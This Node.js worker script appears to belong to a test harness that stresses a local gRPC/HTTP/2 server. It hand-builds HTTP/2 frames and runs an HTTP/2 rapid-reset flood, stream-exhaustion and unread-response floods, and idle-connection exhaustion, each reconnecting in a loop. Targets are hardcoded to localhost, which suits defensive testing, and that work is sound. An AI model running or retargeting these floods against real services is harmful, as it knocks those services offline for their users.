// What somebody does who is up to no good, in a process of its own, until it is told to stop: it has its machine for itself, so here it takes what others leave of
// this one. Its parent sends what to do, then 'stop', and is told how much was tried.
import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { connect as connectTls } from 'node:tls';

/** HTTP/2 (RFC 9113, 4.1). */
const TYPE = { data: 0, headers: 1, reset: 3 };
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** After a connection was closed. */
const AGAIN_MS = 20;
/** Calls of one connection that are reset at once. */
const BATCH = 900;

let tried = 0;
let stopped = false;

function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

/** A call's headers, without a table (RFC 7541, 6.2.2): POST and http are 3 and 6 of the static one, :path is 4, :authority 1, content-type 31. */
const headersOf = (path) =>
  Buffer.concat([
    Buffer.from([0x83, 0x86, 0x04]),
    text(path),
    Buffer.from([0x01]),
    text('localhost'),
    Buffer.from([0x0f, 0x10]),
    text('application/grpc'),
    Buffer.from([0x00]),
    text('te'),
    text('trailers'),
  ]);

/** A connection, and another one whenever it is closed. */
function again(open) {
  if (stopped) return;
  const one = open();
  one.on('error', () => undefined);
  one.on('close', () => setTimeout(again, AGAIN_MS, open));
}

const dial = ({ target, localAddress, tls }) => {
  const socket =
    target.path === undefined
      ? connect({ host: '127.0.0.1', port: target.port, localAddress })
      : connect({ path: target.path });
  if (!tls) return socket;
  socket.on('error', () => undefined);
  return connectTls({ socket, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
};

/** Calls that are begun and given up: all of a connection's after a moment, or each at once. Bytes that are made before, so it costs next to nothing. */
function resets(order) {
  const headers = headersOf(order.path);
  const ids = Array.from({ length: BATCH }, (_, i) => 2 * i + 1);
  const begun = (id) => [frame(TYPE.headers, 0x4, id, headers), frame(TYPE.data, 0x1, id, Buffer.alloc(5))];
  const ended = (id) => frame(TYPE.reset, 0, id, CANCEL);
  const [all, end] = [Buffer.concat(ids.flatMap(begun)), Buffer.concat(ids.map(ended))];
  const rapid = Buffer.concat(ids.flatMap((id) => [...begun(id), ended(id)]));
  for (let i = 0; i < order.connections; i += 1)
    again(() => {
      const socket = dial(order);
      socket.once(order.tls ? 'secureConnect' : 'connect', () => {
        tried += BATCH;
        socket.write(PREFACE);
        socket.write(i % 2 === 0 ? all : rapid);
        setTimeout(() => {
          if (i % 2 === 0) socket.write(end);
          setTimeout(() => socket.destroy(), 50);
        }, 50);
      });
      return socket.resume();
    });
}

/** So many calls at once on each connection, and another for each that ends. `unread`: their answers are not read. */
function calls(order) {
  const body = Buffer.from(order.body ?? 'AAAAAAA=', 'base64');
  for (let i = 0; i < order.connections; i += 1)
    again(() => {
      const session = connectHttp2('http://localhost', {
        createConnection: () => dial(order),
        ...(order.unread && { settings: { initialWindowSize: 0 } }),
      });
      const call = () => {
        if (session.destroyed || session.closed) return;
        tried += 1;
        const stream = session.request({
          ':method': 'POST',
          ':path': order.path,
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        stream.on('error', () => undefined);
        if (!order.unread) stream.resume();
        // A tunnel is refused at once: whoever tries again doesn't wait for long either.
        stream.once('close', () => setTimeout(call, order.pauseMs ?? 0));
        if (order.open) stream.write(body);
        else stream.end(body);
      };
      session.once('remoteSettings', () => {
        for (let n = 0; n < order.atOnce; n += 1) call();
      });
      return session;
    });
}

/** Connections that say nothing. */
function silent(order) {
  for (let i = 0; i < order.connections; i += 1)
    again(() => {
      tried += 1;
      // Not even a handshake.
      return dial({ ...order, tls: false }).resume();
    });
}

setPriority(19);
process.on('message', (order) => {
  if (order !== 'stop') {
    ({ resets, calls, silent })[order.kind](order);
    return;
  }
  stopped = true;
  process.send({ tried }, () => process.exit(0));
});
process.on('disconnect', () => process.exit(0));
